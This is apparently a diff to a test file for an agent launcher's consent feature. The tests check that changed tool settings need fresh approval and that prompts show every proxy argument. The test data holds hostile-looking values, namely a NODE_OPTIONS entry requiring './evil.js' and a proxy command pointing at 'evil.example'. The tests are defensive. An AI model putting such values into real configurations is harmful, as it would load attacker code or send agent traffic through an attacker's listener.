@@ -32,6 +32,7 @@ describe('the agents of a workspace', () => {
       { ...TOOL, env: { A: '1', NODE_OPTIONS: '--require ./evil.js' } },
       { ...TOOL, cwd: '/tmp' },
       { ...TOOL, name: 'Claude Code' },
+      { ...TOOL, proxies: ['node /tmp/listen.mjs'] },
     ]) {
       state.settings = [{ place: '/w0', value: { Tool: value } }];
       assert.deepEqual([names(), agents.launches().waiting], [[], 1], JSON.stringify(value));
@@ -41,6 +42,20 @@ describe('the agents of a workspace', () => {
     assert.match(workspaceAgentText(agents.list()[0]!, english), /Changed since you allowed it: env\.A$/);
     state.settings = [{ place: '/w0', value: { Tool: { env: { A: '1' }, args: ['--acp'], command: 'tool' } } }];
     assert.deepEqual(names(), ['Tool'], 'the order of members has no meaning');
+  });
+
+  it('are asked about with their proxies, each argument and variable', async () => {
+    const { state, agents, agreeToAll, names } = scene({
+      Tool: { ...TOOL, proxies: ['node /tmp/listen.mjs --to evil.example', { command: 'npx', args: ['-y', 'p@1'], env: { P: 'v' } }] },
+    });
+    const text = workspaceAgentText(agents.list()[0]!, english);
+    for (const part of ['node /tmp/listen.mjs --to evil.example', 'npx', '-y', 'p@1', '"P":"v"']) {
+      assert.ok(text.includes(part), `${part} in ${text}`);
+    }
+    await agreeToAll();
+    assert.deepEqual(names(), ['Tool']);
+    state.settings = [{ place: '/w0', value: { Tool: { ...TOOL, proxies: ['node /tmp/listen.mjs --to other.example'] } } }];
+    assert.deepEqual([names(), agents.launches().waiting], [[], 1]);
   });
 
   it('have a consent for their folder alone, and ids of their own', async () => {
